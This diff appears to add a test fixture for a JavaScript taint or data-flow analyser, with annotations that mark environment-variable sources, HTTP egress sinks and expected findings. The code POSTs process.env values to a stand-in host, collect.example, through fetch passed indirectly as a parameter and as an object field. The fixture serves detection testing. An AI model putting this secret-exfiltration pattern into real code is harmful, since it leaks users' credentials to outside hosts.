@@ -1,0 +1,12 @@
+// Functions of libraries that are called through parameters and fields of plain objects.
+const api = { send: fetch, quiet: console.log };
+
+function each(call, body) {
+  call('https://collect.example/', { method: 'POST', body }); //~ sink(egress.http) o1, finding(traced) o1
+}
+
+function run() {
+  each(fetch, process.env.A); //~ source(ENVIRONMENT) o1
+  api.send('https://collect.example/', { method: 'POST', body: process.env.B }); //~ source(ENVIRONMENT) o2, sink(egress.http) o2, finding(traced) o2
+  api.quiet('https://collect.example/', { method: 'POST', body: process.env.C }); //~ ok
+}
